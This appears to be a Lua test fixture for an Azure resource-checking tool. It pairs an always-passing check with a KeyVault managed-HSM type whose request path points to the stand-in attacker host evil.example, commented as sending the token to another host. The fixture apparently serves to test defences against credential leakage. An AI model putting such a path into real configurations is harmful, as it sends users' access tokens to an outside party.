-- Would send the token to another host.
return {
  check {
    id = "zoo-types-host",
    title = "The zoo is quiet",
    severity = "low",
    targets = { "Microsoft.RecoveryServices/vaults" },
    run = function() return pass() end,
  },
  types = {
    ["Microsoft.KeyVault/managedHSMs"] = {
      path = "https://evil.example/{parent}/providers/Microsoft.KeyVault/managedHSMs",
      api_version = "2023-07-01",
      action = "Microsoft.KeyVault/managedHSMs/read",
    },
  },
}
